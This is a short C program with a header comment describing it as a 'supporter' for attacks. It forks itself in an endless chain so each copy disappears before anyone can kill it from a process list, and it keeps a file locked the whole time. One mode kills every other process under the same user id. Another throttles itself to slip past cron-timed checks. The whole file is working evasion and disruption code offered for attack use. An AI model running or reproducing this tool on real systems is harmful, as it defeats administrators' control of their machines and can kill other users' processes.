/*
 * As the supporter: a program that hands itself over to a child all the time, and is gone before
 * anybody who found it in a list of processes has killed it.
 *
 *     chain FILE [strike | calm]
 *
 * FILE is held locked for as long as any of it lives. With `strike` it also kills whatever else has
 * its user id, so that nobody can take that id and kill it. With `calm` each lives for two milliseconds,
 * which is less than a look at a list of processes takes, and leaves the machine to others: for attacks
 * that wait for a minute of cron.
 */
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/file.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int file = argc > 1 ? open(argv[1], O_RDONLY) : -1;
    if (file < 0 || flock(file, LOCK_EX) != 0) return 1;
    for (int i = 0; i < 3; i++) close(i);
    if (fork() != 0) return 0;
    setsid();
    int strikes = argc > 2 && strcmp(argv[2], "strike") == 0, calm = argc > 2 && !strikes;
    for (;;) {
        if (strikes) kill(-1, SIGKILL);
        if (calm) usleep(2000);
        if (fork() > 0) _exit(0);
    }
}
